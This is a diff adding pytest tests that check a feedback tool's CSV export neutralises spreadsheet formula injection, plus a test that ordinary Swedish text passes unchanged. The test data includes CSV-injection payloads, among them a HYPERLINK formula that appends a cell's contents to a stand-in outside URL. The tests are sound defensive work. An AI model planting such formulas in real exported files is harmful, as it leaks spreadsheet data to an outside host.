@@ -60,3 +60,25 @@ def test_cli_counts_and_exports(tmp_path, capsys):
     out = tmp_path / "feedback.csv"
     assert main(["--data-dir", str(data_dir), "feedback", "--export", str(out), "--format", "csv"]) == 0
     assert len(list(csv.DictReader(out.open(encoding="utf-8")))) == 2
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klicka")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_csv_export_defuses_formulas(tmp_path, cell):
+    """A spreadsheet runs a cell that starts with = + - @ (or a tab or CR) as a formula (OWASP: CSV
+    injection); the export prefixes such cells with ' so they open as text. JSON lines are unchanged."""
+    store = FeedbackStore(tmp_path / "f.sqlite3")
+    store.record({**ANSWER, "question": cell, "text": cell}, liked=True, comment=cell)
+    (row,) = csv.DictReader(io.StringIO(export(store.rows(), "csv")))
+    for column in ("question", "answer", "comment"):
+        assert row[column] == "'" + cell
+    assert json.loads(export(store.rows(), "jsonl"))["question"] == cell
+
+
+def test_csv_export_leaves_ordinary_text_alone(tmp_path):
+    store = FeedbackStore(tmp_path / "f.sqlite3")
+    store.record({**ANSWER, "question": "Vem äger SIP? 3-5 år, a=b"}, liked=True)
+    (row,) = csv.DictReader(io.StringIO(export(store.rows(), "csv")))
+    assert row["question"] == "Vem äger SIP? 3-5 år, a=b" and row["liked"] == "True"
